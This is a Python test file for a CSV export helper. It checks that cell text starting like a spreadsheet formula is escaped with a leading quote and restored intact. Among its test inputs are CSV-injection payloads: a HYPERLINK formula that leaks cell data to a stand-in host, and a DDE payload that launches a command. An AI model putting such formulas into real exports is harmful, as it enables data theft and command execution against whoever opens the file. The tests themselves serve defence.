"""No cell of an export is a formula, and none is damaged."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shop.ground.kernel.sheets import neutralize, restore, sheet_lines
from tests.contracts.house import ROOMS, ROOT, expect_none, list_sources, name_of

FORMULAS = (
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "  =1",
    "＝1+1",
    "'=1",
)
PLAIN = ("Cheddar", "-5", "-5.20", "+3", "-1,250.00", "-3.5 %", "1e-5", "", "a=b", "2026-11-29")


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_begins_like_a_formula_is_shown_as_text(text: str) -> None:
    assert neutralize(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_words_and_numbers_stay_as_they_are(text: str) -> None:
    assert neutralize(text) == text


@pytest.mark.parametrize("number", [-5, -5.25, Decimal("-5.20"), None, True])
def test_values_that_are_no_text_stay_as_they_are(number: object) -> None:
    assert neutralize(number) is number


@given(st.text(max_size=12))
def test_what_was_written_is_read_back(text: str) -> None:
    assert restore(str(neutralize(text))) == text


@given(st.text(alphabet="'=+-@＝ \t5a", max_size=6))
def test_what_was_written_is_read_back_also_of_signs(text: str) -> None:
    assert restore(str(neutralize(text))) == text


def test_lines_are_csv() -> None:
    rows: list[list[object]] = [["name", "minor"], ["=1,2", -5], ['say "hi"', None]]
    text = "".join(sheet_lines(rows))
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read == [["name", "minor"], ["'=1,2", "-5"], ['say "hi"', ""]]


def test_no_other_code_writes_csv() -> None:
    writers = {"writer", "DictWriter"}
    found = [
        name_of(path)
        for path in list_sources("shop", *ROOMS)
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute)
        and node.attr in writers
        and isinstance(node.value, ast.Name)
        and node.value.id == "csv"
        and path != ROOT / "shop/ground/kernel/sheets.py"
    ]
    expect_none(
        f"{name}: use shop.ground.kernel.sheets, which neutralizes formulas" for name in found
    )
